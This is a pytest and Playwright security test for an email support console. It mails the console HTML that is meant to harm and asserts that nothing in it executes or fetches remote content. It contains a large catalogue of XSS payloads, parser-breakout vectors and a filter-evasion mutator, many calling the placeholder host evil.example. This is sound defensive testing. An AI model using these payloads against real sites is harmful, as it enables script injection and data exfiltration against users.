"""Mail that means harm is shown in the console and runs nothing, and fetches nothing from anywhere."""

import random
from collections.abc import Iterator
from email.message import EmailMessage
from typing import TYPE_CHECKING
from urllib.request import Request, urlopen

import pytest

from tests.pages.console import sign_in, watched

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

RAN = "top.ran=1;fetch('//evil.example/ran')"

VECTORS = (
    f"<script>{RAN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<img src=x onerror={RAN}>",
    f"<img src='x' onerror\n=\n'{RAN}'>",
    f'<img """><script>{RAN}</script>">',
    f"<img src=javascript:{RAN}>",
    f"<svg onload={RAN}><svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RAN}'><rect width=99 height=99 /></a></svg>",
    f"<math href='javascript:{RAN}'>press</math>",
    f"<body onload={RAN}><body background='//evil.example/b.png'>",
    f"<iframe src='javascript:{RAN}'></iframe><iframe srcdoc='<script>{RAN}</script>'></iframe>",
    f"<object data='javascript:{RAN}'></object><embed src='//evil.example/x.swf'>",
    f"<a href='javascript:{RAN}' autofocus onfocus={RAN}>press</a>",
    f"<a href='java&#09;script:{RAN}'>press</a><a href='&#106;avascript:{RAN}'>press</a>",
    f"<a href=' &#14; javascript:{RAN}'>press</a><a href='JaVaScRiPt:{RAN}'>press</a>",
    f"<a href='data:text/html,<script>{RAN}</script>'>press</a><a href='vbscript:x'>press</a>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<video><source onerror={RAN}></video><audio src=x onerror={RAN}></audio>",
    f"<input autofocus onfocus={RAN}><textarea autofocus onfocus={RAN}></textarea>",
    f"<select autofocus onfocus={RAN}></select>",
    f"<marquee onstart={RAN}>x</marquee><div onpointerover={RAN} style='position:fixed;inset:0'>x</div>",
    f"<form action='//evil.example/'><button formaction='javascript:{RAN}'>press</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'><base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'><style>@import '//evil.example/y.css';</style>",
    "<div style='background:url(//evil.example/p.png)'>x</div><table background='//evil.example/t.png'>",
    f"<div style='width:expression({RAN})'>x</div><xss style='behavior:url(//evil.example/x.htc)'>",
    f"<p/onclick={RAN}//>x<img/src=x/onerror={RAN}//>",
    f"¼script¾{RAN}¼/script¾ +ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    "<img src=//evil.example/pixel.gif width=1 height=1><img srcset='//evil.example/s.png 1x'>",
    "<picture><source srcset=//evil.example/p.webp><img src=//evil.example/q.png></picture>",
    "<p><a href='//evil.example/' ping='//evil.example/ping'>a link</a><input type=image src=//evil.example/i.png>",
)

ENDLESS = (
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
    f"<title><img src=x onerror={RAN}></title><textarea></textarea><img src=x onerror={RAN}>",
    f"<!--><img src=x onerror={RAN}>--><![CDATA[<img src=x onerror={RAN}>]]>",
    f"<template><img src=x onerror={RAN}></template><xmp><img src=x onerror={RAN}></xmp>",
)
"""Those after which a browser takes the rest for something else."""

END = "<p>the end</p>"
SHOWN = "text => document.querySelector('iframe.mail').contentDocument.body?.innerText.includes(text)"
PRESS = """() => document.querySelector('iframe.mail').contentDocument
    .querySelectorAll('a:not([href^=http]), button').forEach(one => one.click())"""


def mutated(html: str, dice: random.Random) -> str:
    """Give HTML with a few of the small changes that get past filters: case, blanks, NULs, comments, entities."""
    for _ in range(dice.randint(1, 4)):
        at = dice.randrange(len(html))
        html = dice.choice(
            (
                html[:at] + dice.choice("\t\n\x0b\x0c\x00/'\"`<>= \u00a0") + html[at:],
                html[:at] + html[at:].swapcase(),
                html[:at] + "<!---->" + html[at:],
                html[:at] + f"&#x{ord(html[at]):x};" + html[at + 1 :],
                html[:at] + html[at + 1 :],
                html + html[:at],
            )
        )
    return html


@pytest.fixture
def ran(browser: "Browser", desk_url: str) -> Iterator["Page"]:
    """The console, signed in; its watch fails where anything leaves the desk, or anything complains."""
    with watched(browser, desk_url) as page:
        sign_in(page)
        yield page


def received(desk_url: str, number: int, html: str) -> str:
    """Let a mail arrive, and give its subject."""
    mail = EmailMessage()
    mail["From"], mail["To"] = f"<i>Eve</i> <eve{number}@evil.example>", "support@example.com"
    mail["Subject"] = subject = f"<img src=x onerror={RAN}> number {number}."
    mail["Message-ID"] = f"<hostile-{number}@evil.example>"
    mail.set_content(f"<script>{RAN}</script>")
    mail.add_alternative(html, subtype="html")
    address = f"{desk_url}/_local/mail?sender=eve@evil.example&recipients=support@example.com"
    with urlopen(Request(address, bytes(mail), method="POST"), timeout=10) as answer:
        assert answer.status < 300
    return subject


def hostile_mails() -> Iterator[str]:
    """Give the HTML of each mail: all that can stand beside others, each that can't, and many changed a little."""
    yield "".join(f"<div>{each}</div>" for each in VECTORS) + END
    yield from ENDLESS
    dice = random.Random(7)
    for _ in range(3):
        yield "".join(f"<div>{mutated(dice.choice(VECTORS), dice)}</div>" for _ in range(60))


def test_nothing_of_a_hostile_mail_runs_or_is_fetched(ran: "Page", desk_url: str) -> None:
    for number, html in enumerate(hostile_mails()):
        subject = received(desk_url, number, f"<p>A mail.</p>{html}")
        ran.goto("/console?view=all")
        ran.locator("#rows a.what").filter(has_text=subject).first.click()
        ran.wait_for_selector("iframe.mail", state="attached")
        ran.evaluate("() => document.querySelectorAll('details').forEach(one => { one.open = true })")
        ran.wait_for_function(SHOWN, arg="the end" if html.endswith(END) else "A mail.")
        ran.evaluate(PRESS)
        assert ran.evaluate("() => [window.ran, ...Array.from(frames, one => one.ran)].every(x => x === undefined)")
